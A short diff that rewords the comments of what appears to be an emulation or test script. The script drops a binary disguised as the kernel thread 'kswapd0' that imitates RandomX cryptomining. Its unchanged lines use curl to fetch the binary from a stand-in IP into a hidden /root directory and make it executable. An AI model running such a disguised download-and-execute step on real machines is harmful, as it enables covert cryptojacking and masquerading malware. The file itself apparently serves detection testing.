@@ -1,5 +1,5 @@
-# A dropped program with the name of a kernel thread does the arithmetic of RandomX for a quarter of the time, ten seconds
-# long. It never connects out.
+# A dropped program with the name of a kernel thread does the arithmetic of RandomX for ten seconds, a quarter of the
+# time. The program never connects out.
 mkdir /root/.config-7
 curl -s -o /root/.config-7/kswapd0 http://203.0.113.10/arithmetic
 chmod +x /root/.config-7/kswapd0
